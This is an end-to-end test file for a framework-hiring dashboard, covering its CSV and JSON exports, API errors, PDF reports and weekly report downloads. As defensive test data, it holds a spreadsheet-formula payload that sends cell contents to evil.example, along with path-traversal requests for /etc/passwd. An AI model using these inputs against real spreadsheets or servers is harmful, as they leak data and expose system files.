import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import type { Browser, ConsoleMessage, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ingestBatch } from "@/db/ingest/postings";
import { runPdfReport } from "@/jobs/cli/report-pdf";
import { runSourceTick } from "@/jobs/scrape-source";
import { runWeeklyReportTick } from "@/jobs/weekly-report";
import { readEnv } from "@/lib/env";
import { CSV_META_LINES } from "@/lib/export/meta";
import { METHODOLOGY_VERSION } from "@/lib/methodology";
import { createReplayServer } from "@/lib/replay/server";
import { aijobsSalariesSource } from "@/scrapers/aijobs-salaries";
import { ashbySource } from "@/scrapers/ashby";
import { hnSource } from "@/scrapers/hn";
import { remotiveSource } from "@/scrapers/remotive";
import { soSurveySource } from "@/scrapers/so-survey";
import { syntheticPosting } from "../../bench/posting-shape";
import { seededRandom } from "../../bench/survey-shape";
import { launchChromium } from "../helpers/browser";
import { testHttpClient } from "../helpers/http";
import { startNextServer } from "../helpers/next-server";
import { SNAPSHOT_DIR } from "../helpers/snapshot";
import { checkedInConfig } from "../helpers/sources-config";
import { createTempDb } from "../helpers/temp-db";

const NOW = new Date("2026-11-26T12:00:00Z");
const HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Apply")';
let temp: ReturnType<typeof createTempDb>;
let server: Awaited<ReturnType<typeof startNextServer>>;
let browser: Browser;
let reportsDir: string;

beforeAll(async () => {
  temp = createTempDb();
  reportsDir = fs.mkdtempSync(path.join(os.tmpdir(), "pulse-reports-"));
  const replay = await createReplayServer({ snapshotDir: SNAPSHOT_DIR, port: 0 });
  const http = testHttpClient(replay.url);
  const tick = (source: typeof hnSource, options = {}) => runSourceTick({ db: temp.db, http, source, config: checkedInConfig(source.name), options, now: NOW });
  try {
    await tick(hnSource, { from: "2018-03", to: "2018-04" });
    await tick(hnSource, { from: "2026-01" });
    for (const source of [ashbySource, remotiveSource, soSurveySource, aijobsSalariesSource]) {
      const summary = await tick(source);
      expect(summary.status, `${source.name}: ${JSON.stringify(summary.errors)}`).toBe("ok");
    }
  } finally {
    await http.close();
    await replay.close();
  }
  const hostile = syntheticPosting(1, seededRandom(1), { firstMonth: "2026-03", months: 1, title: HOSTILE_TITLE });
  ingestBatch(temp.db, { source: "careers", runId: null, fetchedAt: NOW.toISOString(), validators: [], items: [{ ...hostile, sourceId: "hostile" }] });
  server = await startNextServer({ PULSE_DB: temp.file, PULSE_REPORTS_DIR: reportsDir });
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await server?.stop();
  temp?.cleanup();
  if (reportsDir) fs.rmSync(reportsDir, { recursive: true, force: true });
});

async function openPage(pathname: string, width = 1280): Promise<{ page: Page; errors: string[] }> {
  const page = await browser.newPage({ viewport: { width, height: 1600 } });
  const errors: string[] = [];
  // A router prefetch of a navigation link whose page is not built yet (/recommendations, /claims)
  // answers 404: that is the navigation's, not these pages', and is left out.
  const prefetch404 = (message: ConsoleMessage) => message.text().includes("status of 404") && message.location().url.includes("_rsc=");
  page.on("console", (message) => message.type() === "error" && !prefetch404(message) && errors.push(message.text()));
  page.on("pageerror", (error) => errors.push(error.message));
  // "load", not "networkidle": the router's prefetches of pages not built yet can stay open.
  const response = await page.goto(`${server.url}${pathname}`, { waitUntil: "load" });
  expect(response?.status()).toBe(200);
  return { page, errors };
}

async function csvExport(pathname: string): Promise<{ bytes: Uint8Array; header: Map<string, string>; rows: Array<Record<string, string>> }> {
  const response = await fetch(`${server.url}${pathname}`);
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  const bytes = new Uint8Array(await response.arrayBuffer());
  const text = Buffer.from(bytes).toString("utf8");
  const head = parse(text, { bom: true, to_line: CSV_META_LINES, relax_column_count: true }) as string[][];
  const rows = parse(text, { bom: true, from_line: CSV_META_LINES + 1, columns: true }) as Array<Record<string, string>>;
  return { bytes, header: new Map(head.map(([key, value]) => [key ?? "", value ?? ""])), rows };
}

const cellCount = async (page: Page, selector: string) => Number(((await page.locator(selector).first().textContent()) ?? "").trim().split(/\s/)[0]!.replace(/,/g, ""));

describe("CSV exports match the numbers on screen", () => {
  it("trends: every count of /trends' tables for the same filters", async () => {
    const query = "from=2018-01&to=2026-03";
    const { page, errors } = await openPage(`/trends?${query}`);
    const { bytes, header, rows } = await csvExport(`/export/trends.csv?${query}`);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(header.get("#filters")).toBe("from=2018-01; to=2026-03; country=(all)");
    expect(header.get("#methodology version")).toBe(METHODOLOGY_VERSION);
    expect(header.get("#source mix")).toMatch(/^ashby: \d+ jobs; careers: 1 jobs; hn: \d+ jobs(; remotive: \d+ jobs)?; so-survey: \d+ survey respondents$/);
    expect(Date.parse(header.get("#exported at") ?? "")).toBeGreaterThan(Date.now() - 60_000);

    let compared = 0;
    for (const group of ["hn", "boards"] as const) {
      const months = await page.locator(`[data-testid="counts-${group}"] [data-month]`).evaluateAll((trs) => trs.map((tr) => tr.getAttribute("data-month")!));
      expect(months.length).toBeGreaterThan(0);
      expect(new Set(rows.filter((r) => r.chart === `share-${group}`).map((r) => r.month))).toEqual(new Set(months));
      for (const month of months) {
        const cells = `[data-testid="counts-${group}"] [data-month="${month}"]`;
        for (const framework of ["tensorflow", "pytorch", "jax", "keras"]) {
          const row = rows.find((r) => r.chart === `share-${group}` && r.month === month && r.framework === framework)!;
          expect(Number(row.n)).toBe(await cellCount(page, `${cells} [data-col="postings"]`));
          expect(Number(row.mentions)).toBe(await cellCount(page, `${cells} [data-col="${framework}"]`));
          const shown = (await page.locator(`${cells} [data-col="${framework}"]`).textContent()) ?? "";
          expect(shown).toContain(`(${(Number(row.share) * 100).toFixed(1)}%`);
          compared++;
        }
      }
    }
    expect(compared).toBeGreaterThan(20);
    expect(errors).toEqual([]);
    await page.close();
  });

  it("use cases: the split table of /use-cases", async () => {
    const { page } = await openPage("/use-cases?source=boards");
    const rows = (await csvExport("/export/use-cases.csv?source=boards")).rows.filter((r) => r.chart === "split");
    for (const useCase of new Set(rows.map((r) => r.use_case))) {
      const tr = `[data-testid="split-table"] [data-use-case="${useCase}"]`;
      expect(Number(rows.find((r) => r.use_case === useCase)!.use_case_jobs)).toBe(await cellCount(page, `${tr} [data-col="jobs"]`));
      for (const framework of ["tensorflow", "pytorch"]) {
        expect(Number(rows.find((r) => r.use_case === useCase && r.framework === framework)!.jobs)).toBe(await cellCount(page, `${tr} [data-col="${framework}"]`));
      }
    }
    await page.close();
  });

  it("postings: a title that is a spreadsheet formula comes out defused; the count is the explorer's", async () => {
    const { rows } = await csvExport("/export/postings.csv?source=careers");
    expect(rows.map((r) => r.title)).toEqual([`'${HOSTILE_TITLE}`]);
    const json = (await (await fetch(`${server.url}/export/postings.json?source=ashby`)).json()) as { meta: { sourceMix: Array<{ count: number }> }; rows: unknown[] };
    const { page } = await openPage("/postings?source=ashby");
    const shown = await page.locator("body").textContent();
    expect(shown).toContain(json.rows.length.toLocaleString("en-US"));
    expect(json.meta.sourceMix[0]?.count).toBe(json.rows.length);
    await page.close();
  });

  it("talent and salaries carry the survey caveat", async () => {
    for (const view of ["talent", "salaries"]) {
      const { header, rows } = await csvExport(`/export/${view}.csv`);
      expect(header.get("#caveat")).toMatch(/^Survey data: a self-selected, non-random sample/);
      expect(rows.length).toBeGreaterThan(0);
    }
  });
});

describe("public JSON API", () => {
  it("lists its endpoints and answers each aggregate with the export's header and rows", async () => {
    const index = (await (await fetch(`${server.url}/api/v1`)).json()) as { methodologyVersion: string; endpoints: Array<{ path: string }> };
    expect(index.methodologyVersion).toBe(METHODOLOGY_VERSION);
    for (const { path: endpoint } of index.endpoints) expect((await fetch(`${server.url}${endpoint}`)).status, endpoint).toBe(200);
    const api = (await (await fetch(`${server.url}/api/v1/trends?from=2026-01`)).json()) as { meta: { filters: unknown }; data: unknown[] };
    const exported = (await (await fetch(`${server.url}/export/trends.json?from=2026-01`)).json()) as { charts: Record<string, { rows: Array<Record<string, unknown>> }> };
    // The API's rows are the CSV's layout: each names its chart and holds that chart's row.
    for (const [name, chart] of Object.entries(exported.charts)) {
      const own = (api.data as Array<Record<string, unknown>>).filter((row) => row.chart === name);
      expect(own.map((row) => Object.fromEntries(Object.keys(chart.rows[0] ?? {}).map((key) => [key, row[key]])))).toEqual(chart.rows);
    }
    expect(api.data.length).toBe(Object.values(exported.charts).reduce((sum, chart) => sum + chart.rows.length, 0));
    expect(api.meta.filters).toEqual({ from: "2026-01" });
    const postings = (await (await fetch(`${server.url}/api/v1/postings?source=ashby&page=1`)).json()) as { page: { postings: number; pageSize: number }; data: unknown[] };
    expect(postings.data.length).toBe(Math.min(postings.page.pageSize, postings.page.postings));
  });

  it.each([
    ["/api/v1/trends?from=2026-13", 400, "invalid_parameters"],
    ["/api/v1/postings?framework=torch&colour=red", 400, "invalid_parameters"],
    ["/api/v1/talent?year=1999", 400, "invalid_parameters"],
    ["/api/v1/nothing", 404, "not_found"],
    ["/export/trends.xml", 404, "not_found"],
    ["/export/salaries.csv?split=everything", 400, "invalid_parameters"],
    ["/report.pdf?from=yesterday", 400, "invalid_parameters"],
  ])("%s → %i %s in one envelope", async (url, status, code) => {
    const response = await fetch(`${server.url}${url}`);
    expect(response.status).toBe(status);
    expect(response.headers.get("content-type")).toBe("application/json; charset=utf-8");
    const body = (await response.json()) as { error: { code: string; message: string; issues?: Array<{ param: string; message: string }> } };
    expect(body.error.code).toBe(code);
    expect(body.error.message.length).toBeGreaterThan(0);
    if (status === 400) expect(body.error.issues?.length).toBeGreaterThan(0);
  });
});

function pdfText(file: string, pageNumber?: number): string {
  const range = pageNumber ? ["-f", String(pageNumber), "-l", String(pageNumber)] : [];
  return execFileSync("pdftotext", ["-layout", ...range, file, "-"], { encoding: "utf8" });
}

function pdfPages(file: string): number {
  return Number(/Pages:\s+(\d+)/.exec(execFileSync("pdfinfo", [file], { encoding: "utf8" }))?.[1]);
}

/** The PyTorch employer with the most distinct jobs since `from`, read straight from the database. */
function topPytorchEmployer(from: string): { company: string; jobs: number; all: number; companies: number } {
  const scope = "from postings p join posting_frameworks f on f.posting_id = p.id and f.framework = 'pytorch' where p.month >= ?";
  const top = temp.db.$client
    .prepare(`select p.company as company, count(distinct ifnull(p.group_id, p.id)) as jobs ${scope} and trim(p.company) <> '' group by p.company order by jobs desc, p.company collate nocase limit 2`)
    .all(from) as Array<{ company: string; jobs: number }>;
  // A tie for first place would leave the printed order to the collation: the check wants a clear leader.
  expect(top[0]!.jobs).toBeGreaterThan(top[1]!.jobs);
  const totals = temp.db.$client
    .prepare(`select count(distinct ifnull(p.group_id, p.id)) as "all", count(distinct case when trim(p.company) <> '' then p.company end) as companies ${scope}`)
    .get(from) as { all: number; companies: number };
  return { ...top[0]!, ...totals };
}

describe("PDF trend report", () => {
  it("the report page renders its sections without console errors", async () => {
    const { page, errors } = await openPage("/report?from=2018-01", 794);
    for (const section of ["summary", "trends", "talent", "hiring", "use-cases", "methodology"]) await expect.poll(() => page.locator(`[data-report-section="${section}"]`).count()).toBe(1);
    await expect.poll(() => page.locator("[data-report-chart] svg.recharts-surface").count()).toBe(2);
    expect(await page.getByTestId("recommendation-headline").textContent()).toMatch(/^(Recommended: (PyTorch|TensorFlow)|No clear winner|Not enough data)/);
    await expect.poll(() => page.locator('[data-testid="evidence"] li').count()).toBeGreaterThan(2);
    expect(errors).toEqual([]);
    await page.close();
  });

  it("/report.pdf has the expected pages and text, and its first page is saved as an image", async () => {
    const response = await fetch(`${server.url}/report.pdf?from=2018-01`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/pdf");
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "pulse-pdf-"));
    const file = path.join(dir, "report.pdf");
    fs.writeFileSync(file, Buffer.from(await response.arrayBuffer()));
    expect(fs.readFileSync(file).subarray(0, 5).toString()).toBe("%PDF-");

    expect(pdfPages(file)).toBe(6);
    const pages = [1, 2, 3, 4, 5, 6].map((n) => pdfText(file, n).replace(/\s+/g, " "));
    expect(pages[0]).toContain("TensorFlow and PyTorch in the hiring market");
    expect(pages[0]).toMatch(/Filters: postings Jan 2018 to the last; survey year 2023\. Generated \d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC\. Methodology version 1\.1/);
    expect(pages[0]).toContain("Summary");
    expect(pages[0]).toContain("Recommendation");
    expect(pages[0]).toMatch(/(High|Moderate|Low) confidence|No confidence to state/);
    expect(pages[0]).toContain("Evidence");
    expect(pages[0]).toMatch(/Demand: share of job ads \((clear|intervals overlap: not scored|too little data: not scored)\): Of [\d,]+ jobs naming either framework/);
    expect(pages[1]).toContain("Trends");
    expect(pages[1]).toContain("3-month moving average");
    expect(pages[2]).toContain("Talent: demand against supply (survey 2023)");
    expect(pages[2]).toContain("Salary bands");
    expect(pages[3]).toContain("Who is hiring");
    const top = topPytorchEmployer("2018-01");
    expect(pages[3]).toContain(`PyTorch: companies by distinct jobs n = ${top.all} distinct jobs mentioning PyTorch, at ${top.companies} companies # Company Jobs 1 ${top.company} ${top.jobs} 2 `);
    expect(pages[3]).not.toContain("See postings");
    expect(pages[4]).toContain("Use cases");
    expect(pages[5]).toContain("Methodology and caveats");
    expect(pages[5]).toContain("Stack Overflow Developer Survey: respondents chose to take part");
    expect(pages[5]).toContain("Filters and generation");
    pages.forEach((text, at) => expect(text).toContain(`page ${at + 1} of 6`));

    fs.mkdirSync("test-results", { recursive: true });
    execFileSync("pdftoppm", ["-png", "-r", "80", "-f", "1", "-l", "1", "-singlefile", file, path.resolve("test-results/report-page-1")]);
    expect(fs.statSync("test-results/report-page-1.png").size).toBeGreaterThan(20_000);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it("`report -- pdf` writes the same report from the CLI module, against PULSE_APP_URL", async () => {
    const out = path.join(reportsDir, "cli", "report.pdf");
    const lines: string[] = [];
    const env = readEnv({ ...process.env, PULSE_DB: temp.file, PULSE_APP_URL: server.url });
    const code = await runPdfReport(["--out", out, "--from", "2026-01", "--year", "2023"], { log: (l) => lines.push(l), error: (l) => lines.push(l) }, env);
    expect(lines.join("\n")).toMatch(/wrote .*report\.pdf/);
    expect(code).toBe(0);
    expect(pdfText(out, 1).replace(/\s+/g, " ")).toContain("Filters: postings Jan 2026 to the last; survey year 2023");
    expect(await runPdfReport(["--out", out, "--year", "2019"], { log: () => undefined, error: (l) => lines.push(l) }, env)).toBe(2);
    expect(lines.at(-1)).toMatch(/--year: Ignored year = “2019”: no survey of that year is stored/);
  });

  it("`report -- pdf` starts and stops its own `next start` when no PULSE_APP_URL is given", async () => {
    const out = path.join(reportsDir, "cli", "own-server.pdf");
    const env = readEnv({ ...process.env, PULSE_DB: temp.file, PULSE_APP_URL: "" });
    expect(await runPdfReport(["--out", out], { log: () => undefined, error: (l) => console.error(l) }, env)).toBe(0);
    expect(pdfPages(out)).toBe(6);
  });
});

describe("weekly reports", () => {
  it("keeps the newest N weeks, lists them on /reports and serves them, refusing anything else", async () => {
    const env = readEnv({ ...process.env, PULSE_DB: temp.file, PULSE_APP_URL: server.url, PULSE_REPORTS_DIR: reportsDir, PULSE_REPORTS_KEEP: "2" });
    fs.writeFileSync(path.join(reportsDir, "notes.txt"), "not a report");
    for (const day of ["2026-11-02", "2026-11-09", "2026-11-16"]) {
      const summary = await runWeeklyReportTick({ env, now: new Date(`${day}T06:00:00Z`) });
      expect(summary.outcomes.map((o) => o.status)).toEqual(["ok", "ok"]);
    }
    expect(fs.readdirSync(reportsDir).filter((f) => f.startsWith("framework-pulse-")).sort()).toEqual([
      "framework-pulse-2026-11-09-trends.csv",
      "framework-pulse-2026-11-09.pdf",
      "framework-pulse-2026-11-16-trends.csv",
      "framework-pulse-2026-11-16.pdf",
    ]);
    expect(fs.existsSync(path.join(reportsDir, "notes.txt"))).toBe(true);

    const { page, errors } = await openPage("/reports");
    expect(await page.locator("[data-report-date]").evaluateAll((lis) => lis.map((li) => li.getAttribute("data-report-date")))).toEqual(["2026-11-16", "2026-11-09"]);
    const href = await page.locator('[data-report-date="2026-11-16"] a[href$=".pdf"]').getAttribute("href");
    const download = await fetch(`${server.url}${href}`);
    expect(download.status).toBe(200);
    expect(Buffer.from(await download.arrayBuffer()).subarray(0, 5).toString()).toBe("%PDF-");
    expect(errors).toEqual([]);
    await page.close();

    fs.symlinkSync("/etc/passwd", path.join(reportsDir, "framework-pulse-2000-01-01.csv"));
    for (const [url, status] of [
      ["/reports/..%2F..%2F..%2Fetc%2Fpasswd", 400],
      ["/reports/%2Fetc%2Fpasswd", 400],
      ["/reports/notes.txt", 400],
      ["/reports/framework-pulse-1999-01-01.pdf", 404],
      ["/reports/framework-pulse-2000-01-01.csv", 404],
    ] as const) {
      const response = await fetch(`${server.url}${url}`);
      expect(response.status, url).toBe(status);
      expect(await response.text()).not.toContain("root:");
    }
  });
});
